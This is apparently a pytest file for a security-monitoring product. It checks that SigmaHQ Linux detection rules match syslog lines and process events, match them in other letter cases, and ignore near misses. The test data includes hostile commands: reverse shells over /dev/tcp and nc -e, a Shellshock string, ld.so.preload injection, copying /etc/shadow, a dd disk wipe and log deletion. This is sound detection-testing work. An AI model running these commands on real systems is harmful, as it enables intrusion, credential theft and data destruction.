"""SigmaHQ's non-Windows rules, unmodified, each with a matching event, the same event in another
letter case, and a near miss: the rule fires on the first two and not on the third, on SQLite and
on Elasticsearch.

Rules of log sources govsoc collects (Linux syslog lines) get real lines, ingested through the
real parser and run by the real detection pass (which applies each rule's log-source condition).
Linux process-creation rules, whose source govsoc does not collect yet ("no source": detect does
not run them), are converted with the same pipeline and run over ECS process events (the shape
Auditbeat and Elastic Defend write), which pins their field mapping and value semantics for the
day a collector brings those events.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from govsoc.collectors import ingest_file
from govsoc.core.event import Event, make_id
from govsoc.rules import detect, load_rules
from govsoc.rules.backends import backend_for
from govsoc.rules.pipeline import rule_source_status
from govsoc.store.base import Query, Store

LINUX = "sigma/rules/linux"


@dataclass(frozen=True)
class Line:
    """A rule over syslog lines: (program, message) that fire it, in another case, and a near miss."""

    rule: str
    hit: tuple[str, str]
    case: tuple[str, str]
    miss: tuple[str, str]


LINES = [
    # history wiped; `history -r` only reads it
    Line("builtin/lnx_shell_clear_cmd_history.yml", ("bash", "HISTORY: PID=4120 UID=0 history -c"),
         ("bash", "HISTORY: PID=4120 UID=0 HISTORY -C"), ("bash", "HISTORY: PID=4120 UID=0 history -r")),
    # the rule's own false-positive filter: a rotated file (/syslog.) is not the live log
    Line("builtin/lnx_clear_syslog.yml", ("bash", "HISTORY: rm -f /var/log/syslog"),
         ("bash", "HISTORY: RM -F /VAR/LOG/SYSLOG"), ("bash", "HISTORY: rm -f /var/log/syslog.1")),
    # `exec 3<>` opens the socket read-write; `3<` alone is in no keyword
    Line("builtin/lnx_susp_dev_tcp.yml", ("bash", "HISTORY: exec 3<>/dev/tcp/203.0.113.9/4444"),
         ("bash", "HISTORY: EXEC 3<>/DEV/TCP/203.0.113.9/4444"), ("bash", "HISTORY: exec 3</dev/tcp/203.0.113.9/4444")),
    # the keyword has no letters: the case variant changes the rest of the line; the miss lacks `;`
    Line("builtin/lnx_shellshock.yml", ("httpd", "GET /cgi-bin/stat.cgi UA=() { :; }; /bin/id"),
         ("httpd", "GET /CGI-BIN/STAT.CGI UA=() { :; }; /BIN/ID"),
         ("httpd", "GET /cgi-bin/stat.cgi UA=() { :; } /bin/id")),
    # sshd only: the same words from another program are not sshd's
    Line("builtin/sshd/lnx_sshd_susp_ssh.yml", ("sshd", "error: Corrupted MAC on input. [preauth]"),
         ("sshd", "error: CORRUPTED MAC ON INPUT. [preauth]"), ("cron", "error: Corrupted MAC on input. [preauth]")),
    # `nc -e /bin/sh ` runs a shell for the peer; `nc -v` does not
    Line("builtin/lnx_shell_susp_rev_shells.yml", ("bash", "HISTORY: nc -e /bin/sh 203.0.113.9 4444"),
         ("bash", "HISTORY: NC -E /BIN/SH 203.0.113.9 4444"), ("bash", "HISTORY: nc -v /bin/sh 203.0.113.9 4444")),
    # a copy tool and a remote target (@ or :); plain cp is no tool of the rule
    Line("builtin/lnx_file_copy.yml", ("bash", "HISTORY scp backup.tar admin@203.0.113.9"),
         ("bash", "HISTORY SCP BACKUP.TAR ADMIN@203.0.113.9"), ("bash", "HISTORY cp backup.tar admin@203.0.113.9")),
    # a symbolic link to /etc/passwd; a hard link is not in the rule
    Line("builtin/lnx_symlink_etc_passwd.yml", ("bash", "HISTORY: ln -s /etc/passwd /tmp/p"),
         ("bash", "HISTORY: LN -S /ETC/PASSWD /TMP/P"), ("bash", "HISTORY: ln /etc/passwd /tmp/p")),
    # an Equation Group tool path; one letter off is another file
    Line("builtin/lnx_apt_equationgroup_lnx.yml", ("bash", "HISTORY: /tmp/ratload -s 10"),
         ("bash", "HISTORY: /TMP/RATLOAD -S 10"), ("bash", "HISTORY: /tmp/ratlord -s 10")),
    # |all: both keywords in one line; one of them is not enough
    Line("builtin/lnx_susp_jexboss.yml", ("java", "exec bash -c /bin/bash -i >&/dev/tcp/203.0.113.9/4444"),
         ("java", "EXEC BASH -C /BIN/BASH -I >&/DEV/TCP/203.0.113.9/4444"), ("java", "exec bash -c /bin/bash -i")),
    # the eBPF helper that writes user memory; the read helper is harmless
    Line("builtin/lnx_potential_susp_ebpf_activity.yml", ("kernel", "prog 17 uses bpf_probe_write_user helper"),
         ("kernel", "prog 17 uses BPF_PROBE_WRITE_USER helper"), ("kernel", "prog 17 uses bpf_probe_read_user helper")),
    # the preload file, not the loader's ordinary configuration
    Line("builtin/lnx_ldso_preload_injection.yml", ("bash", "HISTORY: echo /tmp/k.so > /etc/ld.so.preload"),
         ("bash", "HISTORY: ECHO /TMP/K.SO > /ETC/LD.SO.PRELOAD"),
         ("bash", "HISTORY: echo /opt/lib > /etc/ld.so.conf")),
    # a web server for exfiltration; an XML-RPC server is not in the list
    Line("builtin/lnx_shell_susp_commands.yml", ("bash", "HISTORY: python -m SimpleHTTPServer 8000"),
         ("bash", "HISTORY: PYTHON -M SIMPLEHTTPSERVER 8000"), ("bash", "HISTORY: python -m SimpleXMLRPCServer 8000")),
    # the stack protector caught an overflow; its start-up notice is not one
    Line("builtin/lnx_buffer_overflows.yml", ("sshd", "*** stack smashing detected ***: terminated"),
         ("sshd", "*** STACK SMASHING DETECTED ***: terminated"), ("sshd", "stack smashing protector enabled")),
    # all of selection_*: a new user in the root group; GID=1000 is an ordinary group
    Line("builtin/lnx_privileged_user_creation.yml",
         ("useradd", "new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash"),
         ("useradd", "NEW USER: NAME=JOHN, UID=0, GID=0, HOME=/HOME/JOHN, SHELL=/BIN/BASH"),
         ("useradd", "new user: name=ann, UID=1000, GID=1000, home=/home/ann, shell=/bin/bash")),
    # sniffing starts; leaving promiscuous mode ends it
    Line("builtin/lnx_shell_susp_log_entries.yml", ("kernel", "device eth0 entered promiscuous mode"),
         ("kernel", "device eth0 ENTERED PROMISCUOUS MODE"), ("kernel", "device eth0 left promiscuous mode")),
    # a refused zone transfer; an allowed one is routine
    Line("builtin/syslog/lnx_syslog_susp_named.yml", ("named", "client 203.0.113.9#4122: denied AXFR from 203.0.113.9"),
         ("named", "client 203.0.113.9#4122: DENIED AXFR FROM 203.0.113.9"),
         ("named", "client 203.0.113.9#4122: approved AXFR from 203.0.113.9")),
    # systemd says "Stopping" with a capital: the rule's lower-case keyword must still find it
    Line("builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml", ("systemd", "Stopping iptables firewall..."),
         ("systemd", "STOPPING IPTABLES firewall..."), ("systemd", "Starting iptables firewall...")),
    # crontab's own line; the same words from sshd are not the cron log source
    Line("builtin/cron/lnx_cron_crontab_file_modification.yml", ("crontab", "(root) REPLACE (root)"),
         ("crontab", "(root) replace (root)"), ("sshd", "(root) REPLACE (root)")),
    # vsftpd's refusal; the same text from proftpd is not vsftpd
    Line("builtin/vsftpd/lnx_vsftpd_susp_error_messages.yml", ("vsftpd", "Connection refused: tcp_wrappers denial."),
         ("vsftpd", "CONNECTION REFUSED: TCP_WRAPPERS DENIAL."),
         ("proftpd", "Connection refused: tcp_wrappers denial.")),
    # a Trojan verdict; the EICAR test file is a harmless FOUND
    Line("builtin/clamav/lnx_clamav_relevant_message.yml", ("clamd", "/srv/upload/a.exe: Win.Trojan.Agent-1 FOUND"),
         ("clamd", "/srv/upload/a.exe: win.trojan.agent-1 found"),
         ("clamd", "/srv/upload/t.com: Eicar-Test-Signature FOUND")),
    # a second user joined the session; one user is normal
    Line("builtin/guacamole/lnx_guacamole_susp_guacamole.yml",
         ("guacd", 'User "@a1" joined connection "$c9" (2 users now present)'),
         ("guacd", 'User "@a1" joined connection "$c9" (2 USERS NOW PRESENT)'),
         ("guacd", 'User "@a1" joined connection "$c9" (1 users now present)')),
]


@dataclass(frozen=True)
class Process:
    """A process-creation rule: (executable, command line) that fire it, another case, a near miss."""

    rule: str
    hit: tuple[str, str]
    case: tuple[str, str]
    miss: tuple[str, str]


PROCESSES = [
    # apt told to run a command before updating; a plain update is not
    Process("proc_creation_lnx_apt_shell_execution.yml",
            ("/usr/bin/apt", "apt -o APT::Update::Pre-Invoke::=/bin/sh update"),
            ("/usr/bin/APT", "apt -o apt::update::pre-invoke::=/bin/sh update"), ("/usr/bin/apt", "apt update")),
    # endswith /at; /usr/bin/cat only ends with "at"
    Process("proc_creation_lnx_at_command.yml", ("/usr/bin/at", "at now + 1 minute"),
            ("/usr/bin/AT", "at now + 1 minute"), ("/usr/bin/cat", "cat notes")),
    # |re '-D' is case-sensitive (no i flag): the case variant changes the executable only
    Process("proc_creation_lnx_auditctl_clear_rules.yml", ("/sbin/auditctl", "auditctl -D"),
            ("/SBIN/AUDITCTL", "auditctl -D"), ("/sbin/auditctl", "auditctl -l")),
    # |contains|all: stop and kesl; starting it is fine
    Process("proc_creation_lnx_av_kaspersky_av_disabled.yml", ("/usr/bin/systemctl", "systemctl stop kesl"),
            ("/usr/bin/SYSTEMCTL", "SYSTEMCTL STOP KESL"), ("/usr/bin/systemctl", "systemctl start kesl")),
    # all of selection_*: awk's system() and a shell; awk printing spawns nothing
    Process("proc_creation_lnx_awk_shell_spawn.yml", ("/usr/bin/awk", "awk 'BEGIN {system(\"/bin/sh\")}'"),
            ("/usr/bin/AWK", "AWK 'begin {SYSTEM(\"/BIN/SH\")}'"), ("/usr/bin/awk", "awk 'BEGIN {print 1}'")),
    # decoding, not encoding
    Process("proc_creation_lnx_base64_decode.yml", ("/usr/bin/base64", "base64 -d payload.b64"),
            ("/usr/bin/BASE64", "BASE64 -D PAYLOAD.B64"), ("/usr/bin/base64", "base64 payload.txt")),
    # decoded into a shell; decoded into a file is not execution
    Process("proc_creation_lnx_base64_execution.yml", ("/bin/sh", "sh -c echo aWQ= | base64 -d | bash"),
            ("/bin/SH", "SH -C ECHO AWQ= | BASE64 -D | BASH"), ("/bin/sh", "sh -c echo aWQ= | base64 -d > /tmp/x")),
    # a base64 "#!/bin/bash"; "#!/bin/python" encodes differently
    Process("proc_creation_lnx_base64_shebang_cli.yml", ("/bin/sh", "sh -c echo IyEvYmluL2Jhc2gK | base64 -d"),
            ("/bin/sh", "sh -c echo iyevymlul2jhc2gk | base64 -d"), ("/bin/sh", "sh -c echo IyEvYmluL3B5dGhvbgo=")),
    # an interactive shell; `bash -c` runs one command
    Process("proc_creation_lnx_bash_interactive_shell.yml", ("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            ("/BIN/BASH", "BASH -I >& /DEV/TCP/203.0.113.9/4444 0>&1"), ("/bin/bash", "bash -c id")),
    # bpftrace allowed to write memory
    Process("proc_creation_lnx_bpftrace_unsafe_option_usage.yml", ("/usr/bin/bpftrace", "bpftrace --unsafe -e 'x'"),
            ("/usr/bin/BPFTRACE", "BPFTRACE --UNSAFE -e 'x'"), ("/usr/bin/bpftrace", "bpftrace -e 'x'")),
    # the setgid capability; net_raw is another
    Process("proc_creation_lnx_cap_setgid.yml", ("/usr/sbin/setcap", "setcap cap_setgid+ep /tmp/x"),
            ("/usr/sbin/SETCAP", "SETCAP CAP_SETGID+EP /TMP/X"), ("/usr/sbin/setcap", "setcap cap_net_raw+ep /tmp/x")),
    # the setuid capability; setgid is the other rule's
    Process("proc_creation_lnx_cap_setuid.yml", ("/usr/sbin/setcap", "setcap cap_setuid+ep /tmp/x"),
            ("/usr/sbin/SETCAP", "SETCAP CAP_SETUID+EP /TMP/X"), ("/usr/sbin/setcap", "setcap cap_setgid+ep /tmp/x")),
    # recursive capability search over the file system; one file is routine
    Process("proc_creation_lnx_capa_discovery.yml", ("/usr/sbin/getcap", "getcap -r / 2>/dev/null"),
            ("/usr/sbin/GETCAP", "GETCAP -R / 2>/dev/null"), ("/usr/sbin/getcap", "getcap /usr/bin/ping")),
    # |endswith ' --': capsh handing over to a shell; --print only reports
    Process("proc_creation_lnx_capsh_shell_invocation.yml", ("/usr/sbin/capsh", "capsh --"),
            ("/usr/sbin/CAPSH", "CAPSH --"), ("/usr/sbin/capsh", "capsh --print")),
    # removing the immutable flag; setting it protects
    Process("proc_creation_lnx_chattr_immutable_removal.yml", ("/usr/bin/chattr", "chattr -i /etc/passwd"),
            ("/usr/bin/CHATTR", "CHATTR -I /ETC/PASSWD"), ("/usr/bin/chattr", "chattr +i /etc/passwd")),
    # sudo into a chroot; sudo as another user is not
    Process("proc_creation_lnx_chroot_execution.yml", ("/usr/bin/sudo", "sudo --chroot /tmp/r /bin/sh"),
            ("/usr/bin/SUDO", "SUDO --CHROOT /TMP/R /BIN/SH"), ("/usr/bin/sudo", "sudo -u admin id")),
    # reading the clipboard (-o); writing it (-i) is not collection
    Process("proc_creation_lnx_clipboard_collection.yml", ("/usr/bin/xclip", "xclip -sel clip -o"),
            ("/usr/bin/XCLIP", "XCLIP -SEL CLIP -O"), ("/usr/bin/xclip", "xclip -sel clip -i")),
    # shadow copied to /tmp; hosts is no secret
    Process("proc_creation_lnx_cp_passwd_or_shadow_tmp.yml", ("/bin/cp", "cp /etc/shadow /tmp/s"),
            ("/BIN/CP", "CP /ETC/SHADOW /TMP/S"), ("/bin/cp", "cp /etc/hosts /tmp/h")),
    # listing crontabs; editing is not enumeration
    Process("proc_creation_lnx_crontab_enumeration.yml", ("/usr/bin/crontab", "crontab -l"),
            ("/usr/bin/CRONTAB", "CRONTAB -L"), ("/usr/bin/crontab", "crontab -e")),
    # removing every job
    Process("proc_creation_lnx_crontab_removal.yml", ("/usr/bin/crontab", "crontab -r"),
            ("/usr/bin/CRONTAB", "CRONTAB -R"), ("/usr/bin/crontab", "crontab -l")),
    # a miner giving nothing to its authors; a non-zero donation is not in the list
    Process("proc_creation_lnx_crypto_mining.yml", ("/tmp/xmrig", "./xmrig --donate-level=0 --threads 2"),
            ("/tmp/XMRIG", "./XMRIG --DONATE-LEVEL=0 --THREADS 2"),
            ("/tmp/xmrig", "./xmrig --donate-level=1 --threads 2")),
    # any curl; curlie only starts with curl
    Process("proc_creation_lnx_curl_usage.yml", ("/usr/bin/curl", "curl https://example.org/"),
            ("/usr/bin/CURL", "curl https://example.org/"), ("/usr/bin/curlie", "curlie https://example.org/")),
    # downloaded into /tmp by a shell; into a home folder is not the rule
    Process("proc_creation_lnx_curl_wget_exec_tmp.yml", ("/bin/sh", "sh -c /usr/bin/curl -o /tmp/x http://h/x"),
            ("/bin/SH", "SH -C /USR/BIN/CURL -O /TMP/X HTTP://H/X"), ("/bin/sh", "sh -c /usr/bin/curl -o /home/u/x http://h/x")),
    # exact Image, of= and zeros: a disk wiped; copying a disk out is not
    Process("proc_creation_lnx_dd_file_overwrite.yml", ("/bin/dd", "dd if=/dev/zero of=/dev/sda"),
            ("/BIN/DD", "DD IF=/DEV/ZERO OF=/DEV/SDA"), ("/bin/dd", "dd if=/dev/sda of=/tmp/disk.img")),
    # writing another process's memory; /maps is only read
    Process("proc_creation_lnx_dd_process_injection.yml", ("/bin/dd", "dd of=/proc/1234/mem bs=1 seek=4096"),
            ("/BIN/DD", "DD OF=/PROC/1234/MEM BS=1 SEEK=4096"), ("/bin/dd", "dd if=/proc/1234/maps of=/tmp/x")),
    # the firewall disabled; enabling it is fine
    Process("proc_creation_lnx_disable_ufw.yml", ("/usr/sbin/ufw", "ufw disable"),
            ("/usr/sbin/UFW", "UFW DISABLE"), ("/usr/sbin/ufw", "ufw enable")),
    # doas, OpenBSD's sudo; sudo is not doas
    Process("proc_creation_lnx_doas_execution.yml", ("/usr/bin/doas", "doas id"),
            ("/usr/bin/DOAS", "doas id"), ("/usr/bin/sudo", "sudo id")),
    # env starting a shell; env running ls is not
    Process("proc_creation_lnx_env_shell_invocation.yml", ("/usr/bin/env", "env /bin/sh"),
            ("/USR/BIN/ENV", "ENV /BIN/SH"), ("/usr/bin/env", "env LANG=C ls")),
    # ESXi network discovery; the version query is not about the network
    Process("proc_creation_lnx_esxcli_network_discovery.yml", ("/bin/esxcli", "esxcli network ip interface list"),
            ("/bin/ESXCLI", "ESXCLI NETWORK IP INTERFACE LIST"), ("/bin/esxcli", "esxcli system version get")),
    # selection and not 1 of filter_main_*: apt-key's own chmod in /tmp is filtered out
    Process("proc_creation_lnx_chmod_targeting_sensitive_directories.yml", ("/bin/chmod", "chmod +x /tmp/payload"),
            ("/BIN/CHMOD", "CHMOD +X /TMP/PAYLOAD"), ("/bin/chmod", "chmod 700 /tmp/apt-key-gpghome.Xk2")),
    # logs removed; sysstat's own clean-up is filtered out
    Process("proc_creation_lnx_clear_logs.yml", ("/bin/rm", "rm -rf /var/log/auth.log"),
            ("/BIN/RM", "RM -RF /VAR/LOG/AUTH.LOG"), ("/bin/rm", "rm -f /var/log/sysstat/sa01")),
]

T0 = datetime(2026, 11, 30, 2, 0, tzinfo=UTC)
KINDS = ("hit", "case", "miss")


def test_the_tables_cover_fifty_distinct_rules(corpus: Path) -> None:
    names = [row.rule for row in LINES] + [row.rule for row in PROCESSES]
    assert len(set(names)) == len(names) >= 50
    ruleset = load_rules([corpus / LINUX])
    assert ruleset.errors == []
    # Every rule of a collected Linux log source is in LINES (auditd's, in test_sigmahq_auditd.py).
    active = {ruleset.files[str(r.id)].relative_to(corpus / LINUX).as_posix()
              for r in ruleset.rules if rule_source_status(r)[0] and r.logsource.service != "auditd"}
    assert active == {row.rule for row in LINES}


def write_lines(path: Path) -> dict[int, tuple[str, str]]:
    """The syslog file; returns pid -> (rule, kind) (each line has its own pid)."""
    owners: dict[int, tuple[str, str]] = {}
    with path.open("w", encoding="utf-8") as out:
        for n, row in enumerate(LINES):
            for k, kind in enumerate(KINDS):
                pid = 1000 + 3 * n + k
                program, message = getattr(row, kind)
                stamp = T0 + timedelta(seconds=pid)
                out.write(f"{stamp:%b} {stamp.day:2d} {stamp:%H:%M:%S} web01 {program}[{pid}]: {message}\n")
                owners[pid] = (row.rule, kind)
    return owners


@pytest.mark.es
@pytest.mark.parametrize("kind", ["sqlite", "elasticsearch"])
def test_linux_line_rules_fire_on_their_lines_only(kind: str, request: pytest.FixtureRequest, corpus: Path,
                                                   tmp_path: Path) -> None:
    store: Store = request.getfixturevalue("sqlite_store" if kind == "sqlite" else "elastic9_store")
    log = tmp_path / "auth.log"
    owners = write_lines(log)
    summary = ingest_file(log, parser_id="linux.auth", store=store, data_dir=tmp_path / "state", timezone="UTC",
                          year=2026)
    assert (summary.receipt.created, summary.parse_failures) == (3 * len(LINES), 0)
    ruleset = load_rules([corpus / LINUX / row.rule for row in LINES])
    result = detect(store, ruleset)
    assert (result.rules, result.failed, result.no_source) == (len(LINES), [], {})
    by_event = {e.id: e.get("process.pid") for e in store.search(Query())}
    fired: dict[str, set[str]] = {}
    for alert in store.alerts():
        rule = ruleset.files[alert.rule_id].relative_to(corpus / LINUX).as_posix()
        fired.setdefault(rule, set()).update(owners[by_event[e]][1] for e in alert.event_ids
                                             if owners[by_event[e]][0] == rule)
    assert {row.rule: fired.get(row.rule, set()) for row in LINES} == {row.rule: {"hit", "case"} for row in LINES}


def process_event(n: int, kind: str, executable: str, command_line: str) -> Event:
    return Event(id=make_id("proc", n, kind), timestamp=T0 + timedelta(seconds=n), dataset="endpoint.events.process",
                 fields={"event.category": ["process"], "event.type": ["start"], "event.action": "exec",
                         "host.os.type": "linux", "host.name": "web01", "user.name": "root",
                         "process.executable": executable, "process.name": executable.rsplit("/", 1)[-1],
                         "process.command_line": command_line, "process.pid": 2000 + n})


@pytest.mark.es
@pytest.mark.parametrize("kind", ["sqlite", "elasticsearch"])
def test_linux_process_rules_fire_on_their_events_only(kind: str, request: pytest.FixtureRequest,
                                                       corpus: Path) -> None:
    store: Store = request.getfixturevalue("sqlite_store" if kind == "sqlite" else "elastic9_store")
    events = [process_event(n, k, *getattr(row, k)) for n, row in enumerate(PROCESSES) for k in KINDS]
    store.write(events)
    store.refresh()
    owners = {process_event(n, k, "/x", "").id: (row.rule, k) for n, row in enumerate(PROCESSES) for k in KINDS}
    backend = backend_for(store.kind)
    fired = {}
    for row in PROCESSES:
        ruleset = load_rules([corpus / LINUX / "process_creation" / row.rule])
        (rule,) = ruleset.rules
        assert rule_source_status(rule) == (False, "product: linux, category: process_creation")
        hits = store.search(Query(native=backend.convert(rule)))
        fired[row.rule] = {owners[e.id][1] for e in hits if owners[e.id][0] == row.rule}
    assert fired == {row.rule: {"hit", "case"} for row in PROCESSES}
